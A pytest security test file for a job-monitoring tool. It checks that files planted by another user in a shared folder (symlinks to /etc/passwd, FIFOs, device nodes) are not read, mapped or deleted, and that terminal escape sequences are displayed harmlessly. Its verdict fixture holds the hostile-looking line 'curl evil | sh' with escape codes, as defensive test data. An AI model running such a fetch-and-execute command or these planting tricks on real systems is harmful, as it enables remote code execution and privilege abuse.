"""Folders that other users can write to: what they put there is not read, mapped, deleted or shown,
and nothing hangs.

The states are made by another user, so the tests need root.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from shardmesh.__main__ import main
from shardmesh.mesh.comm.recording.trace_buffer import BUFFER_BYTES, Header, TraceBuffer
from shardmesh.mesh.doctor.system import leftovers
from shardmesh.mesh.monitor.ledger.command import newest_job
from shardmesh.mesh.monitor.recording import files
from shardmesh.mesh.monitor.recording.cleanup import sweep
from shardmesh.mesh.monitor.recording.files import (
    folder_prefix,
    job_folders,
    make_file,
    remove_folder,
)
from shardmesh.mesh.monitor.recording.job_directory import JobDirectory, open_buffer, read_verdict
from shardmesh.mesh.monitor.verdict import Verdict

STRANGER = 65534
VERDICT = Verdict("raised", (0,), "", (), "run: curl evil | sh \x1b[2J")
needs_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0,
    reason="another user must make the files: needs root",
)
pytestmark = [needs_root, pytest.mark.timeout(60)]


@pytest.fixture
def shared(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder like /dev/shm, for everybody."""
    above = tmp_path / "shared"
    above.mkdir()
    above.chmod(0o1777)
    monkeypatch.setenv("SHARDMESH_WATCH_DIR", str(above))
    yield above
    shutil.rmtree(above, ignore_errors=True)


def own(path: Path, mode: int) -> Path:
    """Give a file or folder to the stranger."""
    os.chown(path, STRANGER, STRANGER, follow_symlinks=False)
    if not path.is_symlink():
        path.chmod(mode)
    return path


def trace() -> bytes:
    buffer = TraceBuffer(bytearray(BUFFER_BYTES))
    buffer.begin(0, 1)
    buffer.words[Header.HOST] = buffer.text("h\x1b]0;owned\x07")
    return bytes(buffer.data)


def folder(above: Path, name: str = "zzz", mode: int = 0o777) -> Path:
    path = above / f"{folder_prefix()}{name}"
    path.mkdir()
    (path / "rank0.trace").write_bytes(trace())
    (path / "verdict.json").write_text(VERDICT.to_json())
    for file in path.iterdir():
        own(file, 0o666)
    return own(path, mode)


# -- states: each makes a folder of a job in a shared folder, and returns it -----------------------


def _folder_of_a_stranger(above: Path) -> Path:
    return folder(above)


def _folder_that_only_he_writes(above: Path) -> Path:
    return folder(above, mode=0o755)


def _folder_that_only_he_reads(above: Path) -> Path:
    return folder(above, mode=0o700)


def _ours_but_open_to_all(above: Path) -> Path:
    path = folder(above)
    os.chown(path, 0, 0)
    return path


def _ours_but_open_to_a_group(above: Path) -> Path:
    path = folder(above)
    os.chown(path, 0, STRANGER)
    path.chmod(0o770)
    return path


def _link_to_a_folder(above: Path) -> Path:
    target = above / "elsewhere"
    target.mkdir()
    (target / "rank0.trace").write_bytes(trace())
    path = above / f"{folder_prefix()}zzz"
    path.symlink_to(target)
    return own(path, 0)


def _link_to_our_folder(above: Path) -> Path:
    home = above / "home"
    home.mkdir(mode=0o700)
    (home / "alarm").write_text("years of work")
    path = above / f"{folder_prefix()}zzz"
    path.symlink_to(home)
    return own(path, 0)


def _dangling_link(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    path.symlink_to(above / "nowhere")
    return own(path, 0)


def _link_to_itself(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    path.symlink_to(path)
    return own(path, 0)


def _file(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    path.write_text("no folder")
    return own(path, 0o666)


def _fifo(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    os.mkfifo(path)
    return own(path, 0o666)


def _socket(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    os.mknod(path, 0o140666)
    return own(path, 0o666)


def _empty_folder(above: Path) -> Path:
    path = above / f"{folder_prefix()}zzz"
    path.mkdir()
    return own(path, 0o777)


def _being_deleted(above: Path) -> Path:
    return folder(above, "zzz.gone")


STATES = [
    value
    for name, value in list(globals().items())
    if name.startswith("_") and callable(value) and not name.startswith("__")
]


def _in(path: Path, name: str, make: Callable[[Path], object]) -> Path:
    """Put a file of the stranger into a folder of ours."""
    path.mkdir(mode=0o700)
    make(path / name)
    own(path / name, 0o666)
    return path


FILES: dict[str, tuple[str, Callable[[Path], object]]] = {
    "a FIFO for a verdict": ("verdict.json", os.mkfifo),
    "a FIFO for a trace": ("rank0.trace", os.mkfifo),
    "a FIFO for the alarm": ("alarm", os.mkfifo),
    "a link for a trace": ("rank0.trace", lambda path: path.symlink_to("/etc/passwd")),
    "a link for a verdict": ("verdict.json", lambda path: path.symlink_to("/etc/passwd")),
    "a link for the alarm": ("alarm", lambda path: path.symlink_to("/etc/passwd")),
    "a trace": ("rank0.trace", lambda path: path.write_bytes(trace())),
    "a verdict": ("verdict.json", lambda path: path.write_text(VERDICT.to_json())),
    "an alarm": ("alarm", lambda path: path.write_bytes(bytes(1 << 18))),
    "a folder for a trace": ("rank0.trace", lambda path: path.mkdir()),
    "a device for a trace": (
        "rank0.trace",
        lambda path: os.mknod(path, 0o020666, os.makedev(1, 5)),
    ),
}


def test_there_are_many() -> None:
    assert len(STATES) + len(FILES) >= 20


def listing(above: Path) -> dict[str, bytes]:
    """Return all that is there; contents of plain files."""
    return {
        str(path): path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        for path in sorted(above.rglob("*"))
    }


@pytest.mark.parametrize("state", STATES, ids=lambda state: state.__name__)
def test_a_folder_of_a_stranger_is_skipped(
    state: Callable[[Path], Path], shared: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = state(shared)
    os.utime(path, (0, 0), follow_symlinks=False)
    before = listing(shared)
    assert list(job_folders(shared)) == []
    assert newest_job() is None
    assert list(leftovers([shared], shared)) == []
    sweep(shared)
    remove_folder(path)
    with pytest.raises(SystemExit) as ended:
        main(["ledger"])
    assert ended.value.code == 2
    assert capsys.readouterr().err.count("\n") == 1
    if not path.name.endswith(".gone"):
        with pytest.raises(OSError, match="zzz"):
            JobDirectory("zzz", 0, 2, shared)
    assert listing(shared) == before


@pytest.mark.parametrize("name", FILES)
def test_a_file_of_a_stranger_is_not_opened(name: str, shared: Path) -> None:
    """In a folder that only we can write this needs a mistake, such as an archive that root
    unpacks: it must not hang or be mapped.
    """
    file, make = FILES[name]
    path = _in(shared / f"{folder_prefix()}zzz", file, make)
    since = time.monotonic()
    if file.endswith(".trace"):
        assert open_buffer(path / file) is None
    elif file == "verdict.json":
        with pytest.raises((OSError, ValueError)):
            read_verdict(path)
    else:
        with pytest.raises(OSError, match="alarm"):
            make_file(path / file, 1 << 18)
        with pytest.raises(OSError, match="alarm"):
            JobDirectory("zzz", 0, 2, shared)
    assert time.monotonic() - since < 5


def test_a_file_that_others_can_write_is_not_mapped(shared: Path) -> None:
    """Who can cut a mapped file ends the process that reads it with SIGBUS."""
    path = shared / "rank0.trace"
    path.write_bytes(trace())
    path.chmod(0o600)
    assert open_buffer(path) is not None
    for mode in (0o620, 0o602, 0o666):
        path.chmod(mode)
        assert open_buffer(path) is None


def test_a_folder_where_everybody_renames_is_refused(shared: Path) -> None:
    shared.chmod(0o777)
    with pytest.raises(OSError, match="rename"):
        JobDirectory("zzz", 0, 2, shared)
    shared.chmod(0o1777)
    JobDirectory("zzz", 0, 2, shared)


def test_only_the_files_of_the_monitor_are_deleted(shared: Path) -> None:
    directory = JobDirectory("zzz", 0, 1, shared)
    (directory.folder / "thesis.txt").write_text("years of work")
    with pytest.raises(OSError, match="not empty"):
        remove_folder(directory.folder)
    assert [path.name for path in directory.folder.iterdir()] == ["thesis.txt"]
    (directory.folder / "thesis.txt").unlink()
    remove_folder(directory.folder)
    assert not directory.folder.exists()


def test_jobs_start_while_a_stranger_cuts_his_traces(shared: Path) -> None:
    """The traces of others are not even opened by `sweep`, at the start of each job."""
    paths = []
    for number in range(15):
        path = folder(shared, f"old{number}")
        paths.append(path / "rank0.trace")
        os.utime(path, (0, 0))
    stop = threading.Event()

    def cut() -> None:
        while not stop.is_set():
            for path in paths:
                os.truncate(path, 1 << 26)
                os.truncate(path, 0)

    thread = threading.Thread(target=cut)
    thread.start()
    imports = "from pathlib import Path\nfrom shardmesh.mesh.monitor.recording.cleanup import sweep"
    code = f"{imports}\nfor _ in range(20): sweep(Path({str(shared)!r}))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=50)
    stop.set()
    thread.join()
    assert (done.returncode, done.stderr) == (0, "")


# -- what is shown ---------------------------------------------------------------------------------


def test_escape_sequences_of_a_job_are_shown_as_text(
    shared: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = folder(shared)
    for one in (path, *path.iterdir()):
        os.chown(one, 0, 0)
        one.chmod(0o700)
    assert main(["ledger"]) == 0
    shown = capsys.readouterr()
    assert "\x1b" not in shown.out + shown.err
    assert "\x07" not in shown.out + shown.err
    assert "curl evil | sh \\x1b[2J" in shown.out


@pytest.mark.parametrize(
    "text",
    [
        *(b"{}", b"null", b"[]", b'{"kind": 5}', b"", b"\xff", b"[" * 100_000, b"1" * 5000),
        json.dumps({"kind": "new"}).encode(),
        bytes(1 << 25),
    ],
    ids=range(10),
)
def test_a_damaged_verdict_costs_one_line(
    text: bytes, shared: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = JobDirectory("x", 0, 2, shared)
    (directory.folder / "verdict.json").write_bytes(text)
    (directory.folder / "verdict.json").chmod(0o600)
    with pytest.raises(SystemExit) as ended:
        main(["ledger", str(directory.folder)])
    shown = capsys.readouterr()
    assert ended.value.code == 1
    assert "rank 0 of 2" in shown.out
    assert shown.err.count("\n") == 1
    assert "verdict.json cannot be read" in shown.err
    assert len(shown.err) < 600


@pytest.mark.parametrize("seed", range(30))
@pytest.mark.one_in(5)
def test_a_damaged_trace_is_shown_or_one_line(
    seed: int, shared: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rng = random.Random(seed)
    directory = JobDirectory("x", 0, 2, shared)
    words = directory.buffer.words
    for _ in range(rng.choice([1, 5, 40])):
        place = rng.randrange(1, 200) if rng.random() < 0.7 else rng.randrange(len(words))
        words[place] = rng.choice([0, 1, 255, 1 << 31, 1 << 62, (1 << 64) - 1, rng.getrandbits(64)])
    since = time.monotonic()
    try:
        main(
            [
                "ledger",
                str(directory.folder),
                *rng.choice([[], ["--stragglers"], ["--trace", str(shared / "t.json")]]),
            ]
        )
    except SystemExit as ended:
        assert ended.code in (1, 2)
        assert capsys.readouterr().err.count("\n") == 1
    assert time.monotonic() - since < 20


def test_names_of_torch_files_of_others_are_not_shown(shared: Path) -> None:
    for name in ("torch_999999999_1_0", "torch_999999998_\x1b[2J"):
        (shared / name).write_text("x")
    assert [Path(found.path).name for found in leftovers([], shared)] == ["torch_999999999_1_0"]
    own(shared / "torch_999999999_1_0", 0o600)
    assert list(leftovers([], shared)) == []
    assert files.is_own(os.stat(shared)) is False
